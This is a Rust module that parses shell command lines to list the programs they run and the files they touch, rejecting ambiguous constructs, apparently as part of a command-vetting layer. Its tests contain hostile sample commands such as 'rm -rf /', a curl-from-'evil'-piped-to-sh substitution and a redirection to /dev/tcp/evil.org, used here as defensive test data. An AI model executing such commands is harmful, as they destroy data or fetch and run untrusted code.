//! Command lines of a shell, read as far as their meaning is certain; what is not certain is an error.

use std::iter::Peekable;
use std::str::Chars;

/// Longer command lines are not read.
const MAX_LINE_BYTES: usize = 64 << 10;
/// Substitutions and subshells within each other beyond this are not read.
const MAX_DEPTH: usize = 16;

/// One thing that a command line does.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Part {
    /// Starts a program or a builtin; an argument is `None` where only the shell will know it.
    Run {
        /// The program's name or path.
        program: String,
        /// What follows it.
        arguments: Vec<Option<String>>,
    },
    /// Reads a file, by a redirection.
    Read(String),
    /// Writes a file, by a redirection.
    Write(String),
    /// Sets a variable.
    Set(String),
}

/// Why a command line is not understood.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Unclear {
    /// It is longer than anybody would read.
    #[error("it is longer than {MAX_LINE_BYTES} bytes")]
    TooLong,
    /// Substitutions or subshells are too deep within each other.
    #[error("its substitutions are more than {MAX_DEPTH} deep")]
    TooDeep,
    /// A quote, a parenthesis or a brace is not closed.
    #[error("a quote or a bracket is not closed")]
    Unclosed,
    /// A word of the shell's own grammar.
    #[error("`{}` is not read here", .0.escape_debug())]
    Grammar(String),
    /// The program is known to the shell alone.
    #[error("which program it starts is known only when it runs")]
    Program,
    /// The file of a redirection is known to the shell alone, or is no file.
    #[error("which file it redirects to or from is known only when it runs")]
    Redirection,
}

/// The parts of a command line in the order of its text, those in substitutions and subshells included.
pub fn parts(line: &str) -> Result<Vec<Part>, Unclear> {
    if line.len() > MAX_LINE_BYTES {
        return Err(Unclear::TooLong);
    }
    let mut reader = Reader {
        rest: line.chars().peekable(),
        parts: Vec::new(),
        depth: 0,
    };
    reader.list(false)?;
    Ok(reader.parts)
}

struct Reader<'a> {
    rest: Peekable<Chars<'a>>,
    parts: Vec<Part>,
    depth: usize,
}

/// One word after quotes were taken off.
#[derive(Default)]
struct Word {
    text: String,
    /// Whether the shell will put something else in its place.
    expands: bool,
    /// How many bytes at its beginning stood there without quotes.
    bare_bytes: usize,
    quoted: bool,
}

impl Word {
    fn push(&mut self, character: char) {
        self.text.push(character);
    }

    fn push_bare(&mut self, character: char) {
        let unbroken = !self.quoted && self.bare_bytes == self.text.len();
        self.text.push(character);
        if unbroken {
            self.bare_bytes = self.text.len();
        }
    }

    /// The text, where it is what the program will get.
    fn known(self) -> Option<String> {
        // A quoted tilde is no home, but reads like one.
        let tilde = self.text.starts_with('~') && self.bare_bytes == 0;
        // The test command is the only word that a bare bracket leaves alone.
        let fixed = !self.expands || self.text == "[";
        (fixed && !tilde).then_some(self.text)
    }

    /// `NAME` of `NAME=value`, which sets a variable where no program stands before it.
    fn assigned(&self) -> Option<&str> {
        let bare = self.text.get(..self.bare_bytes)?;
        let (name, _) = bare.split_once('=')?;
        let name = name.strip_suffix('+').unwrap_or(name);
        let first = name.starts_with(|first: char| first.is_ascii_alphabetic() || first == '_');
        (first && name.chars().all(is_name)).then_some(name)
    }

    fn is_reserved(&self) -> bool {
        const RESERVED: [&str; 22] = [
            "!", "[[", "]]", "case", "coproc", "do", "done", "elif", "else", "esac", "fi", "for",
            "function", "if", "in", "select", "then", "time", "until", "while", "{", "}",
        ];
        !self.quoted && RESERVED.contains(&self.text.as_str())
    }
}

fn is_name(character: char) -> bool {
    character.is_ascii_alphanumeric() || character == '_'
}

fn ends_word(character: char) -> bool {
    matches!(
        character,
        ' ' | '\t' | '\n' | ';' | '&' | '|' | '<' | '>' | '(' | ')'
    )
}

impl Reader<'_> {
    /// Commands up to the end, or up to the parenthesis that closes them.
    fn list(&mut self, closes: bool) -> Result<(), Unclear> {
        loop {
            self.skip_blanks();
            match self.rest.peek().copied() {
                None if closes => return Err(Unclear::Unclosed),
                None => return Ok(()),
                Some(')') if closes => {
                    self.rest.next();
                    return Ok(());
                }
                Some(')') => return Err(Unclear::Unclosed),
                Some('(') => {
                    self.rest.next();
                    self.nested()?;
                }
                Some('&') if self.is_next("&>") => self.command()?,
                Some('\n' | ';' | '|' | '&') => {
                    self.rest.next();
                }
                Some(_) => self.command()?,
            }
        }
    }

    /// What stands between parentheses of which the first was taken.
    fn nested(&mut self) -> Result<(), Unclear> {
        if self.rest.peek() == Some(&'(') {
            return Err(Unclear::Grammar("((".to_owned()));
        }
        self.depth += 1;
        if self.depth > MAX_DEPTH {
            return Err(Unclear::TooDeep);
        }
        self.list(true)?;
        self.depth -= 1;
        Ok(())
    }

    /// One simple command with its assignments and redirections.
    fn command(&mut self) -> Result<(), Unclear> {
        let mut program = None;
        let mut arguments = Vec::new();
        loop {
            self.skip_blanks();
            match self.rest.peek().copied() {
                None | Some('\n' | ';' | '|' | ')') => break,
                Some('&') if !self.is_next("&>") => break,
                Some('&' | '<' | '>') => self.redirection()?,
                Some('(') => return Err(Unclear::Grammar("(".to_owned())),
                Some('#') => while self.rest.next_if(|next| *next != '\n').is_some() {},
                Some(_) => {
                    let word = self.word()?;
                    if self.is_descriptor(&word) {
                        continue;
                    }
                    match (&program, word.assigned()) {
                        (Some(_), _) => arguments.push(word.known()),
                        (None, Some(name)) => self.parts.push(Part::Set(name.to_owned())),
                        (None, None) if word.is_reserved() => {
                            return Err(Unclear::Grammar(word.text));
                        }
                        (None, None) => program = Some(word.known().ok_or(Unclear::Program)?),
                    }
                }
            }
        }
        if let Some(program) = program {
            self.parts.push(Part::Run { program, arguments });
        }
        Ok(())
    }

    /// `2` of `2>file`.
    fn is_descriptor(&mut self, word: &Word) -> bool {
        let digits = !word.text.is_empty() && word.text.bytes().all(|byte| byte.is_ascii_digit());
        digits && !word.quoted && matches!(self.rest.peek(), Some('<' | '>'))
    }

    fn redirection(&mut self) -> Result<(), Unclear> {
        let mut operator = String::new();
        while let Some(next) = self.rest.next_if(|next| "<>&|".contains(*next)) {
            operator.push(next);
        }
        self.skip_blanks();
        if matches!(self.rest.peek(), Some('(') | None) {
            return Err(Unclear::Redirection);
        }
        let target = self.word()?;
        let copies = target.text == "-"
            || target
                .text
                .trim_end_matches('-')
                .bytes()
                .all(|byte| byte.is_ascii_digit());
        match operator.as_str() {
            // A here-string: text that goes to the program, and no file.
            "<<<" => return Ok(()),
            "<&" | ">&" if copies && !target.text.is_empty() => return Ok(()),
            _ => {}
        }
        let file = target.known().filter(|file| !file.is_empty());
        let file = file.ok_or(Unclear::Redirection)?;
        // To the shell these are connections.
        if file.starts_with("/dev/tcp/") || file.starts_with("/dev/udp/") {
            return Err(Unclear::Redirection);
        }
        if file == "/dev/null" {
            return Ok(());
        }
        match operator.as_str() {
            "<" => self.parts.push(Part::Read(file)),
            ">" | ">>" | ">|" | ">&" | "&>" | "&>>" => self.parts.push(Part::Write(file)),
            "<>" => self
                .parts
                .extend([Part::Read(file.clone()), Part::Write(file)]),
            _ => return Err(Unclear::Grammar(operator)),
        }
        Ok(())
    }

    fn word(&mut self) -> Result<Word, Unclear> {
        let mut word = Word::default();
        while let Some(character) = self.rest.next_if(|next| !ends_word(*next)) {
            match character {
                '\'' => {
                    word.quoted = true;
                    self.single_quoted(&mut word)?;
                }
                '"' => {
                    word.quoted = true;
                    self.double_quoted(&mut word)?;
                }
                '\\' => match self.rest.next().ok_or(Unclear::Unclosed)? {
                    '\n' => {}
                    escaped => {
                        word.quoted = true;
                        word.push(escaped);
                    }
                },
                '$' => self.dollar(&mut word, false)?,
                '`' => return Err(Unclear::Grammar("`".to_owned())),
                '*' | '?' | '[' | '{' | '}' => {
                    word.expands = true;
                    word.push_bare(character);
                }
                bare => word.push_bare(bare),
            }
        }
        if self.rest.peek() == Some(&'(') {
            return Err(Unclear::Grammar("(".to_owned()));
        }
        Ok(word)
    }

    fn single_quoted(&mut self, word: &mut Word) -> Result<(), Unclear> {
        loop {
            match self.rest.next().ok_or(Unclear::Unclosed)? {
                '\'' => return Ok(()),
                character => word.push(character),
            }
        }
    }

    fn double_quoted(&mut self, word: &mut Word) -> Result<(), Unclear> {
        loop {
            match self.rest.next().ok_or(Unclear::Unclosed)? {
                '"' => return Ok(()),
                '`' => return Err(Unclear::Grammar("`".to_owned())),
                '$' => self.dollar(word, true)?,
                '\\' => match self.rest.next().ok_or(Unclear::Unclosed)? {
                    '\n' => {}
                    escaped if "$`\"\\".contains(escaped) => word.push(escaped),
                    other => word.text.extend(['\\', other]),
                },
                character => word.push(character),
            }
        }
    }

    /// An expansion after its `$`; commands in it are read, and its value is known to the shell alone.
    fn dollar(&mut self, word: &mut Word, quoted: bool) -> Result<(), Unclear> {
        match self.rest.peek().copied() {
            Some('(') => {
                self.rest.next();
                self.nested()?;
            }
            Some('{') => {
                self.rest.next();
                while self.rest.next_if(|next| is_name(*next)).is_some() {}
                if self.rest.next() != Some('}') {
                    return Err(Unclear::Grammar("${".to_owned()));
                }
            }
            Some('[') => return Err(Unclear::Grammar("$[".to_owned())),
            Some('\'' | '"') if !quoted => return Err(Unclear::Grammar("$'".to_owned())),
            Some(first) if is_name(first) => {
                while self.rest.next_if(|next| is_name(*next)).is_some() {}
            }
            Some(special) if "?#$!-@*".contains(special) => {
                self.rest.next();
            }
            Some(_) | None => {
                word.push('$');
                return Ok(());
            }
        }
        word.expands = true;
        Ok(())
    }

    fn skip_blanks(&mut self) {
        loop {
            if self.is_next("\\\n") {
                self.rest.nth(1);
            } else if self
                .rest
                .next_if(|next| matches!(next, ' ' | '\t'))
                .is_none()
            {
                return;
            }
        }
    }

    fn is_next(&self, text: &str) -> bool {
        let mut ahead = self.rest.clone();
        text.chars().all(|wanted| ahead.next() == Some(wanted))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Each part in one word: `+` runs, `<` reads, `>` writes, `=` sets.
    fn shown(line: &str) -> Result<Vec<String>, Unclear> {
        let show = |part| match part {
            Part::Run { program, arguments } => {
                let words = arguments
                    .into_iter()
                    .map(|word| word.unwrap_or_else(|| "?".to_owned()));
                [format!("+{program}")]
                    .into_iter()
                    .chain(words)
                    .collect::<Vec<_>>()
                    .join(" ")
            }
            Part::Read(file) => format!("<{file}"),
            Part::Write(file) => format!(">{file}"),
            Part::Set(name) => format!("={name}"),
        };
        parts(line).map(|parts| parts.into_iter().map(show).collect())
    }

    #[test]
    fn every_command_of_a_line_is_found() {
        for (line, expected) in [
            ("git status", &["+git status"] as &[_]),
            ("", &[]),
            (
                "git add . && rm -rf / ; id | tee x &",
                &["+git add .", "+rm -rf /", "+id", "+tee x"],
            ),
            ("a\nb # c; d\ne", &["+a", "+b", "+e"]),
            ("(cd x; rm y)", &["+cd x", "+rm y"]),
            ("echo $(curl evil | sh)", &["+curl evil", "+sh", "+echo ?"]),
            ("echo \"a $(id) b\"", &["+id", "+echo ?"]),
            ("echo '$(id)' \"\\$(id)\" \\$x", &["+echo $(id) $(id) $x"]),
            (
                "git commit -m \"$MSG ${A} $1\" *.c {a,b}",
                &["+git commit -m ? ? ?"],
            ),
            (
                "FOO=1 BAR+=$(id) git x=y",
                &["=FOO", "+id", "=BAR", "+git x=y"],
            ),
            ("A=1", &["=A"]),
            ("\"A=1\" b", &["+A=1 b"]),
            ("gi\\t 'sta'\"tus\"", &["+git status"]),
            ("g\\\nit \\\n x", &["+git x"]),
            (
                "a > out 2>&1 < in >>log 2>/dev/null &>all",
                &[">out", "<in", ">log", ">all", "+a"],
            ),
            (
                "a >& f 2>&- <<< \"$x\" <>both",
                &[">f", "<both", ">both", "+a"],
            ),
            ("[ -f x ] && test -d y", &["+[ -f x ]", "+test -d y"]),
            (">only", &[">only"]),
            ("echo a#b", &["+echo a#b"]),
            ("echo $", &["+echo $"]),
        ] {
            assert_eq!(shown(line).unwrap(), expected, "{line}");
        }
    }

    #[test]
    fn what_only_the_shell_would_know_is_unclear() {
        use Unclear::{Grammar, Program, Redirection, TooDeep, Unclosed};
        for (line, expected) in [
            ("$EDITOR x", Program),
            ("$(echo rm) x", Program),
            ("r* x", Program),
            ("{rm,-rf,/}", Program),
            ("\"~/bin/x\"", Program),
            ("a > $F", Redirection),
            ("a > *", Redirection),
            ("a >", Redirection),
            ("a > /dev/tcp/evil.org/80", Redirection),
            ("cat <(id)", Redirection),
            ("a <<EOF\nid\nEOF", Grammar("<<".to_owned())),
            ("`id`", Grammar("`".to_owned())),
            ("echo \"`id`\"", Grammar("`".to_owned())),
            ("echo $((1))", Grammar("((".to_owned())),
            ("echo ${x:=$(id)}", Grammar("${".to_owned())),
            ("echo $'\\x24'", Grammar("$'".to_owned())),
            ("git() { id; }", Grammar("(".to_owned())),
            ("a=(x)", Grammar("(".to_owned())),
            ("if true; then id; fi", Grammar("if".to_owned())),
            ("! id", Grammar("!".to_owned())),
            ("{ id; }", Grammar("{".to_owned())),
            ("[[ -f x ]]", Grammar("[[".to_owned())),
            ("echo 'a", Unclosed),
            ("echo \"a", Unclosed),
            ("(id", Unclosed),
            ("id)", Unclosed),
            ("echo \\", Unclosed),
            (&format!("{}id", "( ".repeat(17)), TooDeep),
        ] {
            assert_eq!(parts(line), Err(expected), "{line}");
        }
        assert_eq!(
            parts(&"a".repeat(MAX_LINE_BYTES + 1)),
            Err(Unclear::TooLong)
        );
    }
}
